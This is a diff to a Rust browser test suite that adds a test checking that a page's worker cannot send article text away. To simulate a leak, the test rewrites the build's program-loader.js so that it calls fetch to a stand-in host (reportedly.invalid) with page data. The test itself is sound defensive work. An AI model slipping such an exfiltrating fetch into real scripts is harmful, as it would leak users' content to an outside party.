@@ -3,6 +3,7 @@
 use reportedly_tests::{Page, Visit};
 
 use crate::elements::{inside, page_of, page_with};
+use crate::sharing::share;
 use crate::texts::read_ferry;
 
 /// A link to a short text.
@@ -66,6 +67,24 @@ fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
         page.wait_until("the frame's text", async || (!shown().await.is_empty()).then_some(())).await;
         let marked = "return document.querySelector('iframe').contentDocument.querySelector('reportedly-text').getAnnotations().then(all => all.length)";
         assert!(page.script::<u32>(marked, Vec::new()).await > 3);
+        no_article_leaves(page).await;
+    });
+}
+
+#[test]
+fn a_worker_for_links_that_would_send_the_article_away_cannot() {
+    let leaking = |script: &str| {
+        let leaking = script.replacen(
+            "postMessage({ number, result:",
+            "fetch('http://reportedly.invalid/?' + verb).catch(() => {}); postMessage({ number, result:",
+            1,
+        );
+        assert_ne!(leaking, script, "the worker answers");
+        leaking
+    };
+    Visit::of_the_build().with_changed("program-loader.js", leaking).run(async |page| {
+        read_ferry(page).await;
+        share(page).await;
         no_article_leaves(page).await;
     });
 }
